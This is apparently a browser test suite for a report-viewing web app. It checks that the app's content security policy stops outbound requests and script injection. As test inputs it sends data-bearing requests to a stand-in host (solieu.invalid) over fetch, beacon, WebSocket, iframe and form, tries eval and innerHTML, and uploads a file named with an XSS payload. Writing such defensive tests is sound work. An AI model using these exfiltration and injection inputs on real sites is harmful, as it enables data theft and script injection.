// Nothing leaves the machine, and no text becomes markup: what the page asks of the network is refused and recorded, and the
// browser itself refuses what the page's policy does not allow.

import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { DOORS, example, filled, paste, press, read, REPORT, rowCount, start, take } from "./harness.mjs";

let at;
before(async () => (at = await start()));
after(() => at.close());

for (const door of DOORS) {
  describe(door, () => {
    let page;
    /** What was asked of any other machine. */
    const elsewhere = [];
    /** What was asked of the site itself once the page had loaded. */
    const later = [];
    before(async () => {
      const context = await at.browser.newContext({ serviceWorkers: "block", acceptDownloads: true });
      let loaded = false;
      await context.route(/^(https?|wss?):/, (route) => {
        const url = route.request().url();
        const own = url.startsWith(at.addresses.hosted);
        if (own && !loaded) return route.continue();
        (own ? later : elsewhere).push(url);
        // The parts that load on first use are the site's own.
        return own ? route.continue() : route.abort();
      });
      page = await at.open(door, { context });
      await example(page);
      loaded = true;
      await page.evaluate(() => {
        globalThis.refused = [];
        addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
      });
    });
    after(() => page.context().close());

    test("whatever one does with a report, no other machine is asked for anything, and no one is told the report", async () => {
      await paste(page, REPORT);
      await page.locator("tr.row .opener").first().click();
      await press(page, "Hình");
      await page.waitForSelector(".pictures svg");
      await press(page, "Bảng");
      for (const format of ["csv", "xlsx", "json", "sdmx", "package", "markdown", "word"]) {
        await Promise.all([page.waitForEvent("download"), take(page, format)]);
      }
      await press(page, "Kệ");
      await press(page, "Cất báo cáo");
      if (door === "hosted") await page.waitForSelector(".kept li");
      await page.keyboard.press("Escape");
      assert.deepEqual(elsewhere, []);
      for (const url of later)
        assert.match(url, /\/assets\/[\w.-]+\.(js|css)$/, "only the page's own parts, without a word added");
      if (door === "from disk") assert.deepEqual(later, []);
      assert.deepEqual(await page.evaluate(() => refused), []);
    });

    test("the browser refuses connections to anywhere else", async () => {
      const tried = await page.evaluate(async () => {
        const url = "https://solieu.invalid/taken?text=1";
        const outcome = {};
        outcome.fetch = await fetch(url).then(
          () => "sent",
          () => "refused",
        );
        outcome.image = await new Promise((done) => {
          const image = new Image();
          image.onload = () => done("sent");
          image.onerror = () => done("refused");
          image.src = url;
        });
        outcome.socket = await new Promise((done) => {
          try {
            const socket = new WebSocket("wss://solieu.invalid/");
            socket.onopen = () => done("sent");
            socket.onerror = () => done("refused");
          } catch {
            done("refused");
          }
        });
        navigator.sendBeacon(url, "text");
        const frame = document.body.appendChild(document.createElement("iframe"));
        frame.src = url;
        const link = document.head.appendChild(document.createElement("link"));
        link.rel = "stylesheet";
        link.href = url;
        const form = document.body.appendChild(document.createElement("form"));
        form.action = url;
        form.submit();
        await new Promise((later) => setTimeout(later, 300));
        for (const element of [frame, link, form]) element.remove();
        return outcome;
      });
      assert.deepEqual(tried, { fetch: "refused", image: "refused", socket: "refused" });
      assert.deepEqual(elsewhere, [], "not even the attempt leaves the browser");
      const refused = await page.evaluate(() => refused);
      for (const directive of ["connect-src", "img-src", "frame-src", "style-src-elem", "form-action"])
        assert.ok(refused.includes(directive), `${directive} in ${refused}`);
    });

    test("no text becomes markup or script: the browser refuses it", async () => {
      const done = await page.evaluate(async () => {
        const tries = {
          html: () => (document.body.innerHTML = "<b>x</b>"),
          inserted: () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"),
          parsed: () => new DOMParser().parseFromString("<b>x</b>", "text/html"),
          eval: () => (0, eval)("1"),
          function: () => new Function("return 1")(),
          script: () => (document.createElement("script").text = "document.title = 'run'"),
          handler: () => document.createElement("div").setAttribute("onclick", "document.title = 'run'"),
          worker: () => new Worker("https://solieu.invalid/worker.js"),
          policy: () => trustedTypes.createPolicy("another", { createHTML: (text) => text }),
        };
        // What runs at once is the test's own console, which may do what the page may not.
        await new Promise((later) => setTimeout(later));
        return Object.entries(tries).flatMap(([name, work]) => {
          try {
            work();
            return [name];
          } catch {
            return [];
          }
        });
      });
      assert.deepEqual(done, []);
      assert.notEqual(await page.title(), "run");
    });
  });
}

test("a file's name is words, whatever it looks like", async () => {
  const page = await at.open();
  const name = `<img src=x onerror="document.title='run'">.txt`;
  await page.setInputFiles("input[type=file]", { name, mimeType: "text/plain", buffer: Buffer.from(REPORT) });
  // A second file would stop the opening of the first.
  await filled(page);
  await read(page);
  await page.setInputFiles("input[type=file]", { name, mimeType: "text/plain", buffer: Buffer.from(`${REPORT} `) });
  await page.waitForSelector(".toasts p");
  assert.ok((await page.locator(".toasts").innerText()).includes(name));
  assert.equal(await page.locator("img").count(), 0);
  assert.notEqual(await page.title(), "run");
  assert.ok((await rowCount(page)) >= 5);
  await page.context().close();
});
